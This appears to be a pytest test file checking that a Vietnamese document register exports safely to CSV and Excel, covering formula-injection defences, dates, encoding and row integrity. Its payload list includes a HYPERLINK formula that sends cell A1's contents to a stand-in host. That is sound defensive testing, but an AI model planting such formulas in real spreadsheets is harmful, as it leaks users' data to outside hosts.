# SPDX-License-Identifier: Apache-2.0
"""A register as a table: nothing in it acts, days are days, and nothing is lost."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from dataclasses import replace
from datetime import date, datetime

import openpyxl
import pytest

from esign.errors import InputError
from esign.tables import book_as_csv, book_as_xlsx
from support.printed_books import bound, incoming_book, outgoing_book, outgoing_lines

FORMULAS = [
    '=HYPERLINK("http://example.invalid?"&A1,"Xem")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    " =1+1",
    "＝1+1",
    "#N/A",
]


def sheet_of(data: bytes) -> openpyxl.worksheet.worksheet.Worksheet:
    return openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]


def rows_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("subject", FORMULAS)
def test_a_subject_that_looks_like_a_formula_stays_text_in_a_spreadsheet(subject: str) -> None:
    data = book_as_xlsx(bound((replace(outgoing_lines(1)[0], subject=subject),)))
    cell = sheet_of(data)["C2"]
    assert (cell.value, cell.data_type) == (subject, "s")
    assert cell.number_format == "@"
    assert cell.quotePrefix is not subject.startswith("#")
    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert re.search(rb"<f[ >/]", xml) is None


@pytest.mark.parametrize("subject", [each for each in FORMULAS if not each.startswith("#")])
def test_a_subject_that_looks_like_a_formula_is_led_by_an_apostrophe_in_csv(subject: str) -> None:
    data = book_as_csv(bound((replace(outgoing_lines(1)[0], subject=subject),)))
    assert rows_of(data)[1][2] == f"'{subject}"


@pytest.mark.parametrize("subject", ["5 - 3 = 2", "a@b.vn", "Kỳ thi 2026+1", "#N/A", "“=”"])
def test_other_texts_stay_as_they_are_in_csv(subject: str) -> None:
    data = book_as_csv(bound((replace(outgoing_lines(1)[0], subject=subject),)))
    assert rows_of(data)[1][2] == subject


def test_commas_quotes_and_lines_within_a_text_survive() -> None:
    text = 'Về "việc" a, b;\nc'
    book = bound((replace(outgoing_lines(1)[0], subject=text),))
    assert rows_of(book_as_csv(book))[1][2] == text
    assert sheet_of(book_as_xlsx(book))["C2"].value == text


def test_days_are_real_days_in_a_spreadsheet() -> None:
    sheet = sheet_of(book_as_xlsx(outgoing_book(1)))
    assert sheet["B2"].value == datetime(2026, 1, 5)  # noqa: DTZ001 - a day has no zone
    assert sheet["B2"].number_format == "dd/mm/yyyy"
    assert isinstance(sheet["G2"].value, int)


def test_a_day_that_no_spreadsheet_knows_is_text() -> None:
    line = replace(outgoing_lines(1)[0], dated_on=date(26, 11, 20))
    assert sheet_of(book_as_xlsx(bound((line,))))["B2"].value == "20/11/0026"


def test_days_are_vietnamese_in_csv() -> None:
    assert rows_of(book_as_csv(outgoing_book(1)))[1][1] == "05/01/2026"


def test_the_head_of_a_spreadsheet_stays_in_sight_and_on_every_sheet_of_paper() -> None:
    book = outgoing_book(3)
    sheet = sheet_of(book_as_xlsx(book))
    assert [cell.value for cell in sheet[1]] == [column.title for column in book.form.columns]
    assert sheet.freeze_panes == "A2"
    assert sheet.print_title_rows == "$1:$1"
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.auto_filter.ref == "A1:J4"
    assert sheet.column_dimensions["C"].width > 2 * sheet.column_dimensions["B"].width > 0
    assert sheet.title == "Sổ đăng ký văn bản đi"


def test_a_title_that_no_sheet_may_have_is_mended() -> None:
    sheet = sheet_of(
        book_as_xlsx(outgoing_book(1, title="Sổ [A]/B: văn bản đi của Hội đồng tư vấn"))
    )
    assert sheet.title == "Sổ  A  B  văn bản đi của Hội đồ"


def test_excel_is_told_that_the_text_is_utf_8() -> None:
    data = book_as_csv(outgoing_book(2))
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.count(b"\r\n") == 3


def test_every_row_is_in_both_tables() -> None:
    book = incoming_book(120)
    assert [int(row[1]) for row in rows_of(book_as_csv(book))[1:]] == list(range(1, 121))
    assert [cell.value for cell in sheet_of(book_as_xlsx(book))["B"][1:]] == list(range(1, 121))


def test_an_empty_book_is_its_head() -> None:
    assert len(rows_of(book_as_csv(outgoing_book(0)))) == 1
    assert sheet_of(book_as_xlsx(outgoing_book(0))).max_row == 1


@pytest.mark.parametrize("write", [book_as_xlsx, book_as_csv])
@pytest.mark.parametrize(
    ("note", "code"), [("a\x07b", "tables.character"), ("x" * 32_768, "tables.too_long")]
)
def test_what_a_table_cannot_hold_is_named_by_row_and_column(
    write: type[bytes], note: str, code: str
) -> None:
    first, second = outgoing_lines(2)
    with pytest.raises(InputError) as raised:
        write(bound((first, replace(second, note=note))))
    (detail,) = raised.value.details
    assert (detail.code, detail.facts["row"], detail.facts["column"]) == (code, 2, "Ghi chú")
